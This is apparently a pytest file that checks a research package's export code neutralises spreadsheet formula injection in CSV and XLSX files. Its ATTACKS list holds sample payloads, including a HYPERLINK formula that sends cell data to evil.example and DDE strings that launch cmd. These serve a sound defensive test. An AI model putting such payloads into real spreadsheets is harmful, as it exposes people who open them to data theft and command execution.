"""Formula injection: every CSV and XLSX export passes its cells through safe_cell."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pandas as pd
import pytest

from slc_research.privacy.safe_cells import (
    FORMULA_STARTS,
    csv_text,
    safe_cell,
    safe_frame,
    xlsx_bytes,
)

PACKAGE = Path(__file__).resolve().parents[1] / "slc_research"

ATTACKS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1+cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
           "\uff1d1+1"]


@pytest.mark.parametrize("attack", ATTACKS)
def test_formula_text_gets_an_apostrophe(attack):
    assert safe_cell(attack) == "'" + attack


@pytest.mark.parametrize("value", ["-3", "+1.5", "-0.25", "-1e-3", "12%", -0.25, 3, None,
                                   "We planned it", "'=already", "a=b", ""])
def test_numbers_and_plain_text_are_kept(value):
    assert safe_cell(value) == ("" if value is None else value)


def test_csv_text_from_a_frame_and_from_dicts():
    frame = pd.DataFrame({"code": ["=1+1", "Listening"], "n": [3, 4],
                          "=header": ["-x", pd.NA]})
    rows = list(csv.reader(io.StringIO(csv_text(frame))))
    assert rows == [["code", "n", "'=header"], ["'=1+1", "3", "'-x"], ["Listening", "4", ""]]
    rows = list(csv.reader(io.StringIO(csv_text([{"a": "@x", "b": 1.5}], columns=["a", "b"]))))
    assert rows == [["a", "b"], ["'@x", "1.5"]]


def test_safe_frame_keeps_numbers_and_the_original():
    frame = pd.DataFrame({"t": pd.Series(["=1", "ok"], dtype="string"), "x": [-1.0, 2.0]})
    out = safe_frame(frame)
    assert out["t"].tolist() == ["'=1", "ok"]
    assert out["x"].tolist() == [-1.0, 2.0]
    assert frame["t"].tolist() == ["=1", "ok"]


def test_xlsx_holds_no_formula():
    from openpyxl import load_workbook

    data = xlsx_bytes({"Results": pd.DataFrame({"comment": ATTACKS, "n": range(len(ATTACKS))})})
    wb = load_workbook(io.BytesIO(data))
    cells = [c for row in wb["Results"].iter_rows() for c in row]
    assert not [c for c in cells if c.data_type == "f"]
    shown = [c.value for c in cells if c.column == 1][1:]
    # the XML may or may not keep a carriage return, depending on openpyxl's version
    assert [v.replace("\r", "\n") for v in shown] == ["'" + a.replace("\r", "\n")
                                                       for a in ATTACKS]


def test_every_csv_and_xlsx_writer_of_the_package_uses_safe_cells():
    """Exports are written only through slc_research.privacy.safe_cells. The exceptions are files
    that are not exports: the synthetic demo's raw files (they play a school's exports and
    are read back as such) and the coder's own working files (read back by the coder)."""
    allowed = {"privacy/safe_cells.py", "synthetic/trust.py", "synthetic/output.py",
               "qual/coding_store.py"}
    writer = re.compile(r"\.to_csv\(|\.to_excel\(|csv\.writer\(|csv\.DictWriter\(|Workbook\(")
    offenders = [str(p.relative_to(PACKAGE)) for p in PACKAGE.rglob("*.py")
                 if writer.search(p.read_text(encoding="utf-8"))
                 and p.relative_to(PACKAGE).as_posix() not in allowed]
    assert offenders == []


def test_formula_starts_are_the_owasp_ones():
    assert set("=+-@\t\r") <= set(FORMULA_STARTS)
